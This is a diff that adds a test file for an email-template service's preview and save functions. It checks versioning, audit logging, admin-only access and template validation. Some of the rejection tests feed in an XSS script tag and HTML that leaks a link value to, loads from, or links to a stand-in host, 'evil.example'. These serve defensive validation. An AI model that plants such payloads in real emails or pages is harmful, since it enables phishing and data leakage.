@@ -1,0 +1,106 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { AnyRow } from '../../../fixtures/any-row.ts';
+import { actors, cast } from '../../../fixtures/cast.ts';
+import { type FunctionsServer, startFunctionsServer } from '../../../fixtures/functions-server.ts';
+import { templateCall } from '../../../fixtures/template-call.ts';
+
+let server: FunctionsServer;
+
+beforeAll(async () => {
+  server = await startFunctionsServer();
+});
+afterAll(() => server?.stop());
+
+const rows = async (text: string, values: unknown[] = []) =>
+  (await server.database.query<AnyRow>(text, values)).rows;
+
+describe('preview-mail', () => {
+  it('shows a template with its examples in the layout', async () => {
+    const call = {
+      template: 'application_received',
+      language: 'en',
+      subject: 'Hi {{ first_name }}',
+    };
+    const { data } = await server.invoke('preview-mail', call, { as: 'astrid' });
+    expect(data).toMatchObject({ errors: [], subject: 'Hi Alva' });
+    expect(data.html).toContain('https://alpaca.example/status/sample');
+  });
+
+  it('names what keeps it from being saved', async () => {
+    const call = {
+      template: 'application_received',
+      language: 'en',
+      body: '{{ salary }} {% if %}',
+    };
+    const { data } = await server.invoke('preview-mail', call, { as: 'astrid' });
+    expect(data.errors).toMatchObject([{ part: 'body', language: 'en' }]);
+  });
+});
+
+describe('save-mail-template', () => {
+  const versionNow = async () => {
+    const [row] = await rows(
+      `select version from email_templates where key = 'application_received'`,
+    );
+    return row?.version as number;
+  };
+  const save = (texts: object, as: 'astrid' | 'rasmus' = 'astrid') =>
+    server.invoke('save-mail-template', templateCall(texts), { as });
+
+  it('saves on top of the version that was seen, under the name of who saves', async () => {
+    const version = await versionNow();
+    expect((await save({ version })).data).toEqual({ version: version + 1 });
+    expect((await save({ version })).data).toEqual({ version: null });
+    expect(
+      await rows(
+        `select updated_by, subject ->> 'sv' as subject from email_templates where key = 'application_received'`,
+      ),
+    ).toEqual([{ updated_by: cast.astrid.id, subject: 'Hi {{ first_name }}' }]);
+    expect(
+      await rows(
+        `select actor_id, changed_columns from audit_log where table_name = 'email_templates' order by id desc limit 1`,
+      ),
+    ).toEqual([{ actor_id: cast.astrid.id, changed_columns: ['body', 'subject', 'updated_by'] }]);
+  });
+
+  it.each([
+    ['is not closed', '{% if job_title %}{{ job_title }}'],
+    ['closes what was not open', '{{ job_title }}{% endif %}'],
+    ['closes in the wrong order', '{% if link %}{% unless link %}x{% endif %}{% endunless %}'],
+    ['knows no such filter', '{{ job_title | shout }}'],
+    ['knows no such name', '{{ salary }}'],
+    ['holds a script', '<script>alert(1)</script>'],
+    ['is empty', ' '],
+    ['sends a link to another host', '<img src="https://evil.example/p?{{ link }}">'],
+    ['loads from another host', '<img src="https://evil.example/p"> {{ link }}'],
+    ['leads to another host', '<a href="https://evil.example">Sign in</a>'],
+  ])('refuses a text that %s, whatever the screen had said', async (_, text) => {
+    const version = await versionNow();
+    const answer = await save({ version, body: { en: '<p>Fine</p>', sv: text } });
+    expect(answer).toMatchObject({
+      status: 422,
+      error: 'invalid',
+      fields: { 'body.sv': 'invalid' },
+    });
+    expect(await versionNow()).toBe(version);
+  });
+
+  it('is for administrators, and the table itself for nobody', async () => {
+    expect((await save({ version: 1 }, 'rasmus')).status).toBe(403);
+    await expect(
+      server.database.withRole(
+        { role: 'authenticated', claims: { ...actors.admin, aal: 'aal1' } },
+        { text: `update public.email_templates set body = '{"en": "{{", "sv": "{{"}'` },
+      ),
+    ).rejects.toThrow(/permission denied/);
+    expect(
+      (
+        await server.invoke(
+          'save-mail-template',
+          { ...templateCall({ version: 1 }), template: 'x' },
+          { as: 'astrid' },
+        )
+      ).status,
+    ).toBe(422);
+  });
+});
